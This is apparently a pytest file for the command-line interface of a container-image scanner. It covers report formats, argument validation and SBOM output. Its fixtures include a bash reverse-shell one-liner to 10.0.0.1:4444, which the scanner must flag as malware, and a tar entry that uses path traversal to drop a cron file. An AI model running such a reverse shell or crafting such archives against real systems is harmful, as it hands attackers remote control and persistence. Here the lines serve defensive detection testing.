"""`-f FORMAT[=FILE]` and `pratique sbom`: where the documents go, and what is refused."""

import json
from pathlib import Path

import pytest

from pratique.cli import run
from pratique.report import Format
from tests.unit.image.archives import archive, entry, tar, write
from tests.unit.report.test_formats import check_cyclonedx, check_sarif, spdx_faults

EVIL = tar(entry("x.sh", b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"))
ESCAPING = tar(entry("../../etc/cron.d/x", b"* * * * * root true"))
PACKAGES = tar(
    entry("etc/os-release", b"ID=alpine\nVERSION_ID=3.19.1\n"),
    entry("lib/apk/db/installed", b"P:busybox\nV:1.36.1-r29\nA:x86_64\n\n"),
)


@pytest.mark.usefixtures("host")
def test_one_scan_writes_as_many_documents_as_are_asked_for(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    image = write(archive([EVIL]), tmp_path)
    files = {form: tmp_path / f"report.{form.value}" for form in Format}
    wanted = [word for form, file in files.items() for word in ("-f", f"{form.value}={file}")]
    assert run(["scan", "-f", "table", *wanted, str(image)]) == 0
    assert "MALWARE (1)" in capsys.readouterr().out
    assert all(file.stat().st_size for file in files.values())
    check_sarif(files[Format.SARIF].read_text())


@pytest.mark.usefixtures("host")
def test_file_takes_the_place_of_standard_output(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    image = write(archive([EVIL]), tmp_path)
    assert run(["scan", "-f", f"json={tmp_path}/a=b.json", str(image)]) == 0
    assert capsys.readouterr().out == ""
    assert json.loads((tmp_path / "a=b.json").read_text())["findings"]


@pytest.mark.usefixtures("host")
@pytest.mark.parametrize(
    ("words", "told"),
    [
        (["-f", "yaml"], "'yaml' is not one of table, json"),
        (["-f", "json="], "names no file"),
        (["-f", "json", "-f", "table"], "two formats would be written to one place"),
        (["-f", "json=/tmp/x", "-f", "sarif=/tmp/../tmp/x"], "two formats would be written to one place"),
        (["-f", "json=/tmp/x", "-o", "/tmp/y"], "there are 0"),
    ],
)
def test_documents_that_cannot_be_are_refused_before_the_scan(
    capsys: pytest.CaptureFixture[str], words: list[str], told: str
) -> None:
    assert run(["scan", *words, "/nowhere/image.tar"]) == 1
    assert told in capsys.readouterr().err


@pytest.mark.usefixtures("host")
def test_bill_of_materials_is_cyclonedx_or_spdx(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    image = write(archive([PACKAGES]), tmp_path)
    assert run(["sbom", str(image)]) == 0
    document = check_cyclonedx(capsys.readouterr().out)
    assert [component["name"] for component in document["components"]] == ["alpine", "busybox"]
    assert run(["sbom", "-f", "spdx", "-o", str(tmp_path / "bom.json"), str(image)]) == 0
    text = (tmp_path / "bom.json").read_text()
    assert "pkg:apk/alpine/busybox@1.36.1-r29" in text
    assert spdx_faults(text, tmp_path) == []


@pytest.mark.usefixtures("host")
def test_bill_of_an_image_that_was_not_read_whole_says_so(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["sbom", str(write(archive([ESCAPING]), tmp_path))]) == 3
    captured = capsys.readouterr()
    assert check_cyclonedx(captured.out)["compositions"][0]["aggregate"] == "incomplete"
    assert "could not be read" in captured.err
